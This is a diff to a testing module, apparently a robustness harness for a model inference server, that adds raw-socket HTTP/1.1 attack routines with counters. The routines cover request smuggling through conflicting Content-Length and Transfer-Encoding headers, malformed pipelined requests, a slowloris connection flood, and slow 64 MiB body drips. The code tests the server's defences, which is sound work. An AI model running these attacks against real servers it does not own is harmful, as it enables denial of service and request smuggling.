@@ -11,12 +11,17 @@ from __future__ import annotations
 
 import gzip
 import http.client
+import io
 import json
 import math
+import select
+import socket
 import subprocess
 import sys
+import threading
 import zlib
-from collections.abc import Iterable, Iterator, Sequence
+from collections import Counter
+from collections.abc import Callable, Iterable, Iterator, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -190,3 +195,223 @@ def rss_kb(pid: int, field_name: str = "VmRSS") -> int:
         if line.startswith(field_name + ":"):
             return int(line.split()[1])
     raise KeyError(f"{field_name} not in /proc/{pid}/status")
+
+
+# --- HTTP/1.1 attackers -----------------------------------------------------------------------------
+# Each is ``attack(target, stop, counters)`` like the HTTP/2 ones of :mod:`trtforge_dev.hostile_h2`:
+# it attacks the HTTP port until `stop` is set, counting what it did and what came back. They write
+# raw bytes to a socket because every HTTP client library refuses to send these requests.
+
+
+@dataclass(frozen=True)
+class Target:
+    """Where to attack and what a legitimate request of the served model looks like."""
+
+    host: str
+    grpc_port: int
+    http_port: int
+    model: str
+    input_name: str
+    # A valid FP32 input of the model, batch included. Small: the HTTP/2 attackers send its request
+    # in one DATA frame (16 KiB at most) without waiting for flow-control credit.
+    sample: np.ndarray
+
+
+class _Unclosed(io.BytesIO):
+    def close(self) -> None:  # HTTPResponse closes its file after each response; the next reads on
+        pass
+
+
+class _Replayed:
+    """What :class:`http.client.HTTPResponse` reads from: bytes already received."""
+
+    def __init__(self, data: bytes) -> None:
+        self.file = _Unclosed(data)
+
+    def makefile(self, mode: str) -> io.BytesIO:
+        return self.file
+
+
+def parse_responses(data: bytes) -> list[int]:
+    """The statuses of the HTTP/1.1 responses in `data`, in order (http.client's parser); a
+    trailing partial response is left out."""
+    src = _Replayed(data)
+    statuses: list[int] = []
+    while data.find(b"\r\n\r\n", src.file.tell()) != -1:  # a whole head is there
+        r = http.client.HTTPResponse(src)  # type: ignore[arg-type]
+        try:
+            r.begin()
+            r.read()
+        except (http.client.HTTPException, ValueError):
+            break
+        statuses.append(r.status)
+    return statuses
+
+
+def exchange(target: Target, raw: bytes, quiet: float = 2.0) -> tuple[list[int], bool]:
+    """Write `raw` on a new connection and read until the server closes it or stays silent for
+    `quiet` seconds: the statuses answered, and whether the server closed the connection."""
+    with socket.create_connection((target.host, target.http_port), timeout=quiet) as s:
+        s.sendall(raw)
+        got = bytearray()
+        closed = False
+        while True:
+            try:
+                data = s.recv(1 << 16)
+            except TimeoutError:
+                break
+            except OSError:
+                closed = True
+                break
+            if not data:
+                closed = True
+                break
+            got += data
+    return parse_responses(bytes(got)), closed
+
+
+def _infer_head(target: Target, *headers: str) -> bytes:
+    lines = [f"POST /v2/models/{target.model}/infer HTTP/1.1", f"Host: {target.host}", *headers]
+    return ("\r\n".join(lines) + "\r\n\r\n").encode()
+
+
+def _exchanges(
+    target: Target, stop: threading.Event, counters: Counter[str], raw: bytes, expected: int
+) -> None:
+    """Send `raw` on one connection after another; count the answers: `extra_responses` are those
+    past the `expected` number (a request the server should not have parsed), `left_open` the
+    connections the server kept after answering."""
+    while not stop.is_set():
+        try:
+            statuses, closed = exchange(target, raw)
+        except OSError:
+            counters["connect_failed"] += 1
+            stop.wait(0.05)
+            continue
+        counters["connections"] += 1
+        counters[f"answers_{'_'.join(map(str, statuses)) or 'none'}"] += 1
+        counters["extra_responses"] += max(0, len(statuses) - expected)
+        counters["left_open"] += not closed
+
+
+def _smuggled(target: Target) -> bytes:
+    return f"GET /v2/models/{target.model}/config HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
+
+
+def cl_with_te(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """A request with both Content-Length and ``Transfer-Encoding: chunked`` whose chunked body ends
+    at once and is followed by a second request (the CL.TE/TE.CL smuggling shape): one answer, then
+    the connection closed; a second answer is a smuggled request."""
+    body = b"0\r\n\r\n" + _smuggled(target)
+    raw = _infer_head(target, f"Content-Length: {len(body)}", "Transfer-Encoding: chunked") + body
+    _exchanges(target, stop, counters, raw, expected=1)
+
+
+def two_content_lengths(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """A request with two different Content-Lengths whose shorter one ends the body before a second
+    request: one answer (400), then the connection closed."""
+    smuggled = _smuggled(target)
+    raw = _infer_head(target, "Content-Length: 2", f"Content-Length: {2 + len(smuggled)}") + b"{}" + smuggled
+    _exchanges(target, stop, counters, raw, expected=1)
+
+
+def pipelined_malformed(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """Three pipelined requests in one write: a good health check, one with a header line without a
+    colon, then a good one. The first is answered (200), the malformed one refused (400) and the
+    connection closed: the third is never read as a request of its own."""
+    ready = f"GET /v2/health/ready HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
+    bad = f"GET /v2/health/ready HTTP/1.1\r\nHost: {target.host}\r\nBad header line\r\n\r\n".encode()
+    _exchanges(target, stop, counters, ready + bad + ready, expected=2)
+
+
+def slowloris(target: Target, stop: threading.Event, counters: Counter[str], connections: int = 200) -> None:
+    """`connections` connections that send a request head one byte at a time (one byte to each every
+    0.2 s) and never finish it; each one the server closes is replaced by a new one."""
+    prefix = f"POST /v2/models/{target.model}/infer HTTP/1.1\r\nHost: {target.host}\r\n".encode()
+    line = b"X-Slow: " + b"s" * 40 + b"\r\n"  # header lines without end: the head never completes
+
+    def byte(i: int) -> bytes:
+        return prefix[i : i + 1] if i < len(prefix) else line[(i - len(prefix)) % len(line)].to_bytes()
+
+    socks: dict[socket.socket, int] = {}  # each socket and how much of the head it has sent
+
+    def open_one() -> None:
+        try:
+            s = socket.create_connection((target.host, target.http_port), timeout=5)
+        except OSError:
+            counters["connect_failed"] += 1
+            return
+        s.setblocking(False)
+        socks[s] = 0
+        counters["opened"] += 1
+
+    try:
+        while not stop.is_set():
+            while len(socks) < connections and not stop.is_set():
+                open_one()
+            readable, _, _ = select.select(list(socks), [], [], 0)
+            for s in readable:  # the server answered or closed: either ends this one
+                try:
+                    data = s.recv(1024)
+                except OSError:
+                    data = b""
+                counters["closed_by_server" if not data else "answered"] += 1
+                s.close()
+                del socks[s]
+            for s, sent in list(socks.items()):
+                try:
+                    s.send(byte(sent))
+                    socks[s] = sent + 1
+                    counters["head_bytes"] += 1
+                except OSError:
+                    counters["closed_by_server"] += 1
+                    s.close()
+                    del socks[s]
+            stop.wait(0.2)
+    finally:
+        for s in socks:
+            s.close()
+
+
+def _slow_bodies(target: Target, stop: threading.Event, counters: Counter[str], chunked: bool) -> None:
+    """Four connections whose requests claim 64 MiB bodies (a Content-Length, or chunked with no length
+    at all) and then send 64 bytes every 0.1 s."""
+    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {64 * MB}"
+    piece = b"x" * 64
+    drip = b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece
+    socks: list[socket.socket] = []
+    try:
+        for _ in range(4):
+            s = socket.create_connection((target.host, target.http_port), timeout=5)
+            s.sendall(_infer_head(target, framing))
+            socks.append(s)
+        while not stop.wait(0.1):
+            for s in list(socks):
+                try:
+                    s.sendall(drip)
+                    counters["body_bytes"] += len(piece)
+                except OSError:  # the server gave up on it (its body deadline)
+                    counters["closed_by_server"] += 1
+                    socks.remove(s)
+        counters["still_sending"] = len(socks)
+    finally:
+        for s in socks:
+            s.close()
+
+
+def slow_body_plain(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    _slow_bodies(target, stop, counters, chunked=False)
+
+
+def slow_body_chunked(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    _slow_bodies(target, stop, counters, chunked=True)
+
+
+H1_ATTACKS: dict[str, Callable[[Target, threading.Event, Counter[str]], None]] = {
+    "cl_with_te": cl_with_te,
+    "two_content_lengths": two_content_lengths,
+    "pipelined_malformed": pipelined_malformed,
+    "slowloris": slowloris,
+    "slow_body_plain": slow_body_plain,
+    "slow_body_chunked": slow_body_chunked,
+}
